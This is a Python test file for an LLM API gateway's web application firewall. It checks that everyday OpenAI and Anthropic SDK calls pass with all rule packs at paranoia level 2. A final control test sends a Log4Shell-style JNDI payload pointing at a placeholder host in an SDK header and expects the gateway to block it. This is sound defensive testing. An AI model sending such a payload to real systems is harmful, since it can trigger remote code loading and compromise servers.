"""The official SDKs pass a WAF that blocks with every built-in pack at paranoia level 2.

openai-python and anthropic-python send their own headers on every call (User-Agent, the X-Stainless-* platform
headers, anthropic-version, Accept, retry counters): a rule that reads one of them as an attack refuses every user
of that SDK at once, so each of their everyday calls must come back served. A header carrying an exploit through the
same client must not.
"""

from __future__ import annotations

import hashlib

import anthropic
import openai
import pytest
import yaml

from gateway.waf.packs import builtin_packs
from tests.conftest import pool

KEY = "sk-sdk-clients"


@pytest.fixture(scope="module")
def gw(module_launcher):
    """One gateway for the module: every test only sends requests through it."""
    policies = module_launcher.directory / "policies"
    policies.mkdir()
    every_pack = sorted(builtin_packs()[0])
    base = {
        "apiVersion": "portcullis.dev/v1",
        "kind": "Policy",
        "metadata": {"name": "every-pack"},
        "spec": {"waf": {"mode": "block", "paranoia_level": 2, "packs": every_pack}},
    }
    (policies / "base.yaml").write_text(yaml.safe_dump(base))
    return module_launcher.gateway(
        {
            "pools": [pool("main", module_launcher.fake_upstream("sdk").url)],
            "auth": {"keys": [{"tenant": "team", "sha256": hashlib.sha256(KEY.encode()).hexdigest()}]},
            "models": [{"name": "test-model"}],
            "policy_dir": str(policies),
        }
    )


def test_the_openai_sdks_everyday_calls_are_served(gw):
    client = openai.OpenAI(base_url=gw.url + "/v1", api_key=KEY, max_retries=0)
    messages = [
        {"role": "system", "content": "You are a helpful assistant. Answer in one sentence."},
        {"role": "user", "content": "What's the difference between a list and a tuple in Python? Use an example."},
    ]
    answer = client.chat.completions.create(model="test-model", messages=messages, max_tokens=20, temperature=0.2)
    assert answer.choices[0].message.content
    chunks = list(
        client.chat.completions.create(
            model="test-model", messages=messages, max_tokens=20, stream=True, stream_options={"include_usage": True}
        )
    )
    assert chunks and chunks[-1].usage is not None
    tools = [
        {
            "type": "function",
            "function": {
                "name": "get_weather",
                "description": "Get the current weather for a city.",
                "parameters": {"type": "object", "properties": {"city": {"type": "string"}}, "required": ["city"]},
            },
        }
    ]
    assert client.chat.completions.create(model="test-model", messages=messages, tools=tools, max_tokens=20).choices
    assert client.completions.create(model="test-model", prompt="Once upon a time,", max_tokens=10).choices
    assert [m.id for m in client.models.list()]


def test_the_anthropic_sdks_everyday_calls_are_served(gw):
    client = anthropic.Anthropic(base_url=gw.url, api_key=KEY, max_retries=0)
    message = client.messages.create(
        model="test-model",
        max_tokens=20,
        system="You are a concise assistant.",
        messages=[{"role": "user", "content": "Summarise the plot of Hamlet in two sentences, please."}],
    )
    assert message.content[0].type == "text"
    with client.messages.stream(
        model="test-model", max_tokens=20, messages=[{"role": "user", "content": "Count to three."}]
    ) as stream:
        assert stream.get_final_message().stop_reason is not None


def test_an_exploit_in_a_header_the_sdk_sends_is_refused(gw):
    """The control: the packs are on and read headers, so the calls above passed on their merits."""
    client = openai.OpenAI(
        base_url=gw.url + "/v1",
        api_key=KEY,
        max_retries=0,
        default_headers={"X-Api-Version": "${jndi:ldap://x.example/a}"},
    )
    with pytest.raises(openai.PermissionDeniedError):
        client.chat.completions.create(model="test-model", messages=[{"role": "user", "content": "hi"}])
